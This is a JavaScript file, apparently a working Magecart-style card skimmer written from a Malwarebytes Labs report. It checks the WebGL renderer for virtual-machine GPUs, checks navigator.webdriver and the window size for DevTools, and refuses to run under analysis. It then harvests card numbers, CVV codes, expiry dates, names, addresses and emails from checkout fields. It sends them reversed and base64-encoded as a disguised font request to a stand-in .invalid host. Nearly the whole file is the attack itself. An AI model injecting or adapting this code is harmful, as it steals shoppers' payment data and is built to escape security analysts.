// webgl-vm-gate, second variant, written from the same Malwarebytes Labs report (2021) and
// its follow-up notes on skimmers that hide from analysts: besides the WebGL renderer check
// it refuses to run when DevTools look open (outer minus inner window size) or the browser
// is automated. It then watches the card fields for changes, keeps them in sessionStorage,
// and sends them once with the page's own fetch as a fake "font" request whose query
// carries the data reversed and base64-encoded.
(() => {
  const gl = document.createElement("canvas").getContext("webgl");
  let gpu = "";
  if (gl) {
    const d = gl.getExtension("WEBGL_debug_renderer_info");
    gpu = d ? gl.getParameter(d.UNMASKED_RENDERER_WEBGL) : gl.getParameter(gl.RENDERER);
  }
  const bad = ["SwiftShader", "llvmpipe", "VirtualBox", "VMware", "Parallels", "Microsoft Basic"];
  if (!gpu || bad.some((b) => String(gpu).includes(b))) return;
  if (navigator.webdriver) return;
  if (window.outerWidth - window.innerWidth > 160 || window.outerHeight - window.innerHeight > 160) return;
  const KEY = "_nwo_fc";
  const store = () => JSON.parse(sessionStorage.getItem(KEY) || "{}");
  document.addEventListener("change", (e) => {
    const el = e.target;
    if (!el || !el.name || !/card|cc|cvv|cvc|exp|name|address|zip|email/i.test(el.name)) return;
    const s = store();
    s[el.name] = el.value;
    sessionStorage.setItem(KEY, JSON.stringify(s));
    const num = Object.keys(s).find((k) => /card.?num|cc.?num|number/i.test(k));
    if (num && s[num].replace(/\D/g, "").length >= 15 && Object.keys(s).some((k) => /cv/i.test(k))) {
      if (sessionStorage.getItem(KEY + "s")) return;
      sessionStorage.setItem(KEY + "s", "1");
      const blob = btoa(unescape(encodeURIComponent(JSON.stringify(s)))).split("").reverse().join("");
      fetch("https://fonts-northwind-static.invalid/css2?family=Inter&d=" + encodeURIComponent(blob), {
        mode: "no-cors",
        credentials: "omit",
      });
    }
  }, true);
})();
